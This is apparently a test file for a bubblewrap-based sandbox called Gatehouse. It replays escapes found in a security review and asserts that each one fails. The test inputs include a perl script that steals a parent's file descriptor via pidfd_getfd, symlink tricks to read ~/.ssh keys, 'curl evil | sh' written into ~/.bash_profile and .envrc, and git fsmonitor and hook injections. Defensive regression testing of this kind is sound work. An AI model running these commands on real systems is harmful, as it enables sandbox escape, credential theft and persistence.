/**
 * Escapes a security review found (issue #7), each reproduced the way the reviewer did it and required to
 * fail: real bwrap, a real compiled policy, run as root and as an unprivileged user. Most take two runs:
 * the first plants something, the second must not be fooled by it.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, lstatSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanup, hasBwrap, identities, mkdirOwned, runSandboxed, scratch, skipWithoutBwrap, writeOwned, assertCheckoutReadable } from './sandbox-helpers.js';
import { policySchema } from '../src/config/policy-schema.js';
import { compilePolicy } from '../src/policy/compile.js';
import type { PolicyEngine } from '../src/policy/engine.js';
import type { SandboxSpec } from '../src/sandbox/types.js';

/** The spec fields a launch derives from the policy: its filesystem view and its decision for one path. */
function fromPolicy(engine: PolicyEngine): Pick<SandboxSpec, 'view' | 'permits'> {
  return {
    view: engine.filesystemView({}),
    permits: (path, access) => engine.decide({ surface: 'filesystem', path, access }).effect === 'allow',
  };
}

for (const identity of identities()) {
  describe(`review escapes as ${identity.name}`, { skip: skipWithoutBwrap }, () => {
    let home: string;
    let work: string;
    const as = identity.user ? { user: identity.user } : {};

    before(() => {
      assertCheckoutReadable(identity);
      assert.ok(hasBwrap, 'bwrap is required (GATEHOUSE_REQUIRE_SANDBOX=1): apt-get install bubblewrap');
      home = scratch(identity, 'review-home');
      work = join(home, 'work');
      mkdirOwned(identity, join(home, '.ssh'));
      writeOwned(identity, join(home, '.ssh', 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n');
      mkdirOwned(identity, work);
    });
    after(() => cleanup(home));

    test("cannot take the bridge's channel to Gatehouse and forge the program's exit (pidfd_getfd, /proc/<pid>/mem)", async () => {
      // The reviewer's attack, in perl: copy the bridge's fd 3 (the channel) with pidfd_getfd, write an EXIT
      // frame saying 0, then exit 42. Also try the bridge's memory and its fd through /proc.
      const pidfdOpen = 434;
      const pidfdGetfd = 438;
      const script = `
        my $bridge = getppid();
        my $pidfd = syscall(${pidfdOpen}, $bridge, 0);
        my $fd = syscall(${pidfdGetfd}, $pidfd, 3, 0);
        if ($fd >= 0) {
          my $payload = '{"code":0,"signal":null}';
          open(my $out, '>&=', $fd);
          syswrite($out, pack('CNN', 7, 0, length $payload) . $payload);
          print "getfd stolen\n";
        } else { print "getfd refused: $!\n" }
        if (open(my $mem, '+<', "/proc/$bridge/mem")) { print "mem opened\n" } else { print "mem refused\n" }
        if (open(my $channel, '+<', "/proc/$bridge/fd/3")) { print "fd opened\n" } else { print "fd refused\n" }
        exit 42;`;
      const result = await runSandboxed({ view: { allow: [], deny: [], unmountable: [] }, home, cwd: work, ...as, command: ['perl', '-e', script] });
      assert.match(result.stdout, /getfd refused: Operation not permitted/, result.stderr);
      assert.match(result.stdout, /mem refused/);
      assert.match(result.stdout, /fd refused/);
      assert.equal(result.code, 42, 'the program\'s own exit code is what Gatehouse reports');
    });

    test('a symlink planted at an allowed path that does not exist yet does not expose ~/.ssh on the next run (C2)', async () => {
      // The workspace is writable and a build cache inside it is allowed too; `.cache` does not exist yet.
      const engine = compilePolicy(
        policySchema.parse({
          filesystem: [
            { id: 'workspace', allow: { paths: ['./'], access: 'rw' } },
            { id: 'build-cache', allow: { paths: ['./.cache'], access: 'rw' } },
          ],
        }),
        { home, workspace: work },
      );
      const run = (command: string) => runSandboxed({ ...fromPolicy(engine), home, cwd: work, ...as, command: ['sh', '-c', command] });

      const first = await run(`ln -s ${join(home, '.ssh')} .cache && echo planted`);
      assert.match(first.stdout, /planted/, first.stderr);
      assert.ok(lstatSync(join(work, '.cache')).isSymbolicLink());

      const second = await run('cat .cache/id_ed25519; cat ~/.ssh/id_ed25519; echo evil > .cache/authorized_keys; echo evil > ~/.ssh/authorized_keys; echo done');
      assert.match(second.stdout, /done/, second.stderr);
      assert.doesNotMatch(second.stdout, /PRIVATE KEY/);
      assert.equal(existsSync(join(home, '.ssh', 'authorized_keys')), false);
      assert.equal(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8'), '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n');
    });
    test('cannot create a start-up file or autostart entry that does not exist yet under a writable HOME (H4a)', async () => {
      writeOwned(identity, join(home, '.profile'), '# the user\'s own\n');
      const engine = compilePolicy(policySchema.parse({ filesystem: [{ id: 'home', allow: { paths: ['~'], access: 'rw' } }] }), { home, workspace: work });
      const script = [
        'echo "curl evil | sh" > ~/.bash_profile',
        'mkdir -p ~/.config/autostart && echo "[Desktop Entry]" > ~/.config/autostart/x.desktop',
        'mkdir -p ~/.ssh/x; echo key >> ~/.ssh/authorized_keys',
        'echo kept > ~/work/still-writable',
        'echo done',
      ].join('; ');
      const result = await runSandboxed({ ...fromPolicy(engine), home, cwd: work, ...as, command: ['sh', '-c', script] });
      assert.match(result.stdout, /done/, result.stderr);
      assert.equal(existsSync(join(home, '.bash_profile')), false);
      assert.equal(existsSync(join(home, '.config', 'autostart')), false);
      assert.equal(existsSync(join(home, '.ssh', 'authorized_keys')), false);
      assert.equal(readFileSync(join(home, '.profile'), 'utf8'), "# the user's own\n");
      // What already exists under HOME stays writable.
      assert.equal(readFileSync(join(work, 'still-writable'), 'utf8'), 'kept\n');
    });

    test('cannot rename a denied directory away from its mask, so the next run still hides it (H4b)', async () => {
      mkdirOwned(identity, join(work, 'a'));
      mkdirOwned(identity, join(work, 'a', 'secrets'));
      writeOwned(identity, join(work, 'a', 'secrets', 'key'), 'denied-secret\n');
      const engine = compilePolicy(
        policySchema.parse({
          filesystem: [
            { id: 'workspace', allow: { paths: ['./'], access: 'rw' } },
            { id: 'secrets', deny: { paths: ['./a/secrets'] } },
          ],
        }),
        { home, workspace: work },
      );
      const run = (command: string) => runSandboxed({ ...fromPolicy(engine), home, cwd: work, ...as, command: ['sh', '-c', command] });
      const move = await run('mv a b; mv a/secrets c; rm -rf a; echo tried');
      assert.match(move.stdout, /tried/, move.stderr);
      assert.equal(readFileSync(join(work, 'a', 'secrets', 'key'), 'utf8'), 'denied-secret\n');
      const next = await run('cat a/secrets/key b/secrets/key c/key 2>/dev/null; echo end');
      assert.doesNotMatch(next.stdout, /denied-secret/);
    });

    test("cannot change a writable workspace's .git/config, .git/hooks or .envrc, which run code on the host later (H4c)", async () => {
      const repo = join(work, 'repo');
      mkdirOwned(identity, repo);
      for (const dir of ['.git', '.git/hooks']) mkdirOwned(identity, join(repo, dir));
      writeOwned(identity, join(repo, '.git', 'config'), '[core]\n\tbare = false\n', 0o644);
      writeOwned(identity, join(repo, '.envrc'), 'export A=1\n', 0o644);
      const engine = compilePolicy(policySchema.parse({ filesystem: [{ id: 'workspace', allow: { paths: ['./'], access: 'rw' } }] }), { home, workspace: repo });
      const script = [
        'printf "\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config',
        'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/post-checkout',
        'echo "curl evil | sh" >> .envrc',
        'mv .git .git-old',
        'echo work > src.txt',
        'echo done',
      ].join('; ');
      const result = await runSandboxed({ ...fromPolicy(engine), home, cwd: repo, ...as, command: ['sh', '-c', script] });
      assert.match(result.stdout, /done/, result.stderr);
      assert.equal(readFileSync(join(repo, '.git', 'config'), 'utf8'), '[core]\n\tbare = false\n');
      assert.equal(existsSync(join(repo, '.git', 'hooks', 'post-checkout')), false);
      assert.equal(readFileSync(join(repo, '.envrc'), 'utf8'), 'export A=1\n');
      assert.equal(readFileSync(join(repo, 'src.txt'), 'utf8'), 'work\n');
    });
  });
}
